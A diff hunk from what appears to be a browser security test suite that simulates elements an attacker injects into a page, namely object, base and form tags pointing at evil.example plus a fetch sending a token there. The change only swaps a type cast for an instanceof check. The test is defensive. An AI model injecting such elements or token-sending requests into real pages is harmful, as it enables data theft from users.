@@ -93,7 +93,7 @@ describe('what an attacker adds to a page', () => {
       add('object', { data: 'https://evil.example/' });
       add('base', { href: 'https://evil.example/' });
       const form = add('form', { action: 'https://evil.example/', method: 'post', target: '_blank' });
-      (form as HTMLFormElement).submit();
+      if (form instanceof HTMLFormElement) form.submit();
       const reached: string[] = [];
       await fetch('https://evil.example/?token=1').then(
         () => reached.push('fetch'),
